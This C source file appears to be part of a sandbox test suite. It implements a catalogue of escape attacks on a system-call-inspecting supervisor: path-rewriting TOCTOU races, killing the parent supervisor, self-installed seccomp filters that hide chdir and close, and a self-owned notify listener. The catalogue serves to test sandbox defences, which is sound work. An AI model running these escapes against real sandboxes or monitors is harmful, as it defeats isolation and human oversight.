// SPDX-License-Identifier: Apache-2.0
/*
 * A: what somebody who looks at a system call before the kernel does it can be
 * made to overlook. T003 and T004 are in protocol_change.c.
 */
#include "catalogue.h"
#include "flip.h"
#include "opens.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/openat2.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define ROUNDS 3000

/* How the content starts that may be read. */
static char expected[4];

static void expect(const char *path)
{
	int fd = open(path, O_RDONLY);

	if (read(fd, expected, sizeof(expected)) < 0)
		note("cannot read %s", path);
	(void)close(fd);
}

/* What a round got by @fd; whether it was what nobody may have. */
static bool got(int fd)
{
	char bytes[256];
	ssize_t n;

	flip_met(fd >= 0);
	if (fd < 0)
		return false;
	n = read(fd, bytes, sizeof(bytes));
	(void)close(fd);
	if (n < (ssize_t)sizeof(expected) ||
	    memcmp(bytes, expected, sizeof(expected)) == 0)
		return false;
	loot(bytes, (size_t)n);
	return true;
}

static int by_open(const char *path)
{
	return (int)syscall(SYS_open, path, O_RDONLY);
}

static int by_openat(const char *path)
{
	return (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
}

static int by_openat2(const char *path)
{
	const struct open_how how = { .flags = O_RDONLY };

	return (int)syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how));
}

/* Opened without any right, and then with one. */
static int by_o_path(const char *path)
{
	int fd = open(path, O_PATH);
	char again[64];
	int result;

	if (fd < 0)
		return fd;
	(void)snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
	result = open(again, O_RDONLY);
	(void)close(fd);
	return result;
}

static int beneath(int fd)
{
	int result;

	if (fd < 0)
		return fd;
	result = openat(fd, "file", O_RDONLY);
	(void)close(fd);
	return result;
}

static int by_directory(const char *path)
{
	return beneath(open(path, O_RDONLY | O_DIRECTORY));
}

static int by_chdir(const char *path)
{
	return chdir(path) < 0 ? -1 : open("file", O_RDONLY);
}

static void race(enum flip_how how, int (*open_it)(const char *path),
		 const char *allowed, const char *forbidden)
{
	const char *path = flip_paths(how, allowed, forbidden);
	int i = 0;

	while (flip_goes_on(i++, ROUNDS) && !got(open_it(path)))
		;
	flip_end();
}

static void race_file(enum flip_how how, int (*open_it)(const char *path))
{
	expect(in_read("file"));
	race(how, open_it, in_read("file"), in_secret("file"));
}

static void race_open(void)
{
	race_file(BY_THREAD, by_open);
}

static void race_openat(void)
{
	race_file(BY_THREAD, by_openat);
}

static void race_openat2(void)
{
	race_file(BY_THREAD, by_openat2);
}

static void race_o_path(void)
{
	race_file(BY_THREAD, by_o_path);
}

static void race_directory(void)
{
	expect(in_read("file"));
	race(BY_THREAD, by_directory, world("read"), world("secret"));
}

static void race_chdir(void)
{
	expect(in_read("file"));
	race(BY_THREAD, by_chdir, world("read"), world("secret"));
}

static void race_mapping(void)
{
	race_file(BY_MAPPING, by_openat);
}

static void race_mapped_file(void)
{
	race_file(BY_FILE, by_openat);
}

static void race_child(void)
{
	race_file(BY_CHILD, by_openat);
}

/* What every program needs to start, or has of itself. */
static void race_system(const char *path)
{
	expect(path);
	race(BY_THREAD, by_openat, path, in_secret("file"));
}

static void race_interpreter(void)
{
	race_system("/lib64/ld-linux-x86-64.so.2");
}

static void race_own_entry(void)
{
	race_system("/proc/self/status");
}

static void race_device(void)
{
	race_system("/dev/zero");
}

/*
 * A place in "write" from where the same "../secret/file" is a file of our
 * own. One of the two has the number @place, or is the working directory.
 */
#define PLACE 50
static const char *upwards;

static void make_places(int *ours, int *theirs)
{
	const char *name = strrchr(path_of("%s", world("secret")), '/') + 1;
	int fd;

	upwards = path_of("../%s/file", name);
	(void)mkdir(in_write("from"), 0700);
	(void)mkdir(in_write(name), 0700);
	fd = open(path_of("%s/file", in_write(name)), O_CREAT | O_RDWR, 0600);
	if (write(fd, "mine\n", 5) != 5)
		note("cannot write");
	(void)close(fd);
	expect(path_of("%s/file", in_write(name)));
	*ours = open(in_write("from"), O_RDONLY | O_DIRECTORY);
	*theirs = open(world("read"), O_RDONLY | O_DIRECTORY);
}

static void to_place(int fd)
{
	(void)dup2(fd, PLACE);
}

static void go_there(int fd)
{
	(void)fchdir(fd);
}

static void race_place(void (*move)(int fd), int at)
{
	int ours, theirs;
	int i = 0;

	make_places(&ours, &theirs);
	move(ours);
	flip_calls(move, ours, theirs);
	while (flip_goes_on(i++, ROUNDS) && !got(openat(at, upwards, O_RDONLY)))
		;
	flip_end();
}

static void race_directory_number(void)
{
	race_place(to_place, PLACE);
}

static void race_working_directory(void)
{
	race_place(go_there, AT_FDCWD);
}

/*
 * Whoever answers is gone: what is then left unasked? The parent may as well
 * be who judges us; he says his number.
 */
static void without_supervisor(void)
{
	const char *path = path_of("%s", in_secret("file"));

	if (loot_by_any(path))
		return;
	if (getppid() <= 1 || getppid() == world_number("harness"))
		return;
	note("kill: %d", kill(getppid(), SIGKILL));
	(void)usleep(300000);
	(void)loot_by_any(path);
}

static int own_filter(struct sock_filter *code, unsigned short n, int flags)
{
	struct sock_fprog program = { n, code };

	(void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags,
			    &program);
}

#define FILTER(number, action)                                               \
	{                                                                    \
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),                       \
			BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (number), 0, 1), \
			BPF_STMT(BPF_RET | BPF_K, (action)),                 \
			BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)         \
	}

/* The calls by which somebody could follow where we are do nothing. */
static void hidden_chdir(void)
{
	struct sock_filter chdir_is_nothing[] =
		FILTER(SYS_chdir, SECCOMP_RET_ERRNO);
	struct sock_filter close_is_nothing[] =
		FILTER(SYS_close, SECCOMP_RET_ERRNO);
	int ours, theirs;

	make_places(&ours, &theirs);
	(void)fchdir(theirs);
	note("filter: %d %d", own_filter(chdir_is_nothing, 4, 0),
	     own_filter(close_is_nothing, 4, 0));
	(void)chdir(in_write("from"));
	(void)close(theirs);
	loot_fd(open(upwards, O_RDONLY));
	loot_fd(openat(theirs, upwards, O_RDONLY));
}

/* We are asked ourselves, and let it through. */
static void *let_through(void *data)
{
	int listener = *(int *)data;
	struct seccomp_notif asked = { 0 };
	struct seccomp_notif_resp answer = { 0 };

	for (;;) {
		memset(&asked, 0, sizeof(asked));
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked) < 0)
			return NULL;
		answer.id = asked.id;
		answer.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		(void)ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
	}
}

static void own_listener(void)
{
	struct sock_filter ask[] = FILTER(SYS_openat2, SECCOMP_RET_USER_NOTIF);
	static int listener;
	pthread_t thread;

	listener = own_filter(ask, 4, SECCOMP_FILTER_FLAG_NEW_LISTENER);
	note("listener: %d", listener);
	if (listener >= 0)
		(void)pthread_create(&thread, NULL, let_through, &listener);
	loot_fd(by_openat2(in_secret("file")));
}

const struct attack protocol_attacks[] = {
	{ "T001", "open, its path rewritten by a thread", "files", "worker", 0,
	  race_open },
	{ "T001b", "the same by openat", "files", "worker", 0, race_openat },
	{ "T001c", "the same by openat2", "files", "worker", 0, race_openat2 },
	{ "T001d", "the same by O_PATH and a second open", "files", "worker", 0,
	  race_o_path },
	{ "T001e", "a directory, and what is beneath", "files", "worker", 0,
	  race_directory },
	{ "T001f", "the working directory, and what is beneath", "files",
	  "worker", 0, race_chdir },
	{ "T001g", "another page is mapped over the path", "files", "worker", 0,
	  race_mapping },
	{ "T001h", "the path is in a file that is written to", "files",
	  "worker", 0, race_mapped_file },
	{ "T001i", "the path is in memory shared with a child", "files",
	  "child", 0, race_child },
	{ "T001j", "the directory to start from is another", "files", "worker",
	  0, race_directory_number },
	{ "T001k", "the working directory is another", "files", "worker", 0,
	  race_working_directory },
	{ "T002", "against the ELF interpreter, which all may read", "files",
	  "worker", 0, race_interpreter },
	{ "T002b", "against the own entry of /proc", "files", "worker", 0,
	  race_own_entry },
	{ "T002c", "against a device", "files", "worker", 0, race_device },
	{ "T020", "every way to open, when the parent has been killed", "files",
	  NULL, 0, without_supervisor },
	{ "T021", "calls that a filter of its own hides", "files", NULL, 0,
	  hidden_chdir },
	{ "T022", "a listener of its own lets it through", "files", "worker", 0,
	  own_listener },
	{ 0 },
};
